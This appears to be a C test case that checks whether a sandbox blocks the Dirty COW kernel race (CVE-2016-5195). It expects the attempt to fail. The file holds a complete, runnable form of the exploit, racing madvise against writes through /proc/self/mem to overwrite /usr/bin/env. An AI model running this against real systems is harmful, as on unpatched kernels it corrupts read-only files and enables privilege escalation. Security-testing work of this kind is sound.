/* Dirty COW: a race between copy-on-write and madvise
 *
 * source: CVE-2016-5195
 * tries: maps a read-only program privately, writes through /proc/self/mem and throws the copy away
 *     in another thread, for 0.3 s
 * lock: the kernel's own cure; the file lies on a read-only mount
 * second: /usr is a private copy: the host's page cache holds another file
 * where: execute session durable
 * expect: mem=EROFS file=same
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static char *map;
static volatile int done;

static void *throw_away(void *arg)
{
    while (!done)
        madvise(map, 4096, MADV_DONTNEED);
    return arg;
}

int main(void)
{
    char before[64], after[64];
    int fd = open("/usr/bin/env", O_RDONLY), mem = open("/proc/self/mem", O_RDWR);
    time_t end = time(NULL) + 1;
    pthread_t thread;

    if (fd < 0 || read(fd, before, sizeof before) != sizeof before)
        return 2;
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    pthread_create(&thread, NULL, throw_away, NULL);
    printf("@ mem %s\n", mem >= 0 ? "ok" : strerrorname_np(errno));
    while (time(NULL) <= end && mem >= 0) {
        if (pwrite(mem, "dirty", 5, (off_t)(uintptr_t)map) < 0)
            break;
    }
    done = 1;
    pthread_join(thread, NULL);
    if (pread(fd, after, sizeof after, 0) != sizeof after)
        return 2;
    printf("@ file %s\n", memcmp(before, after, sizeof after) == 0 ? "same" : "changed");
    return 0;
}
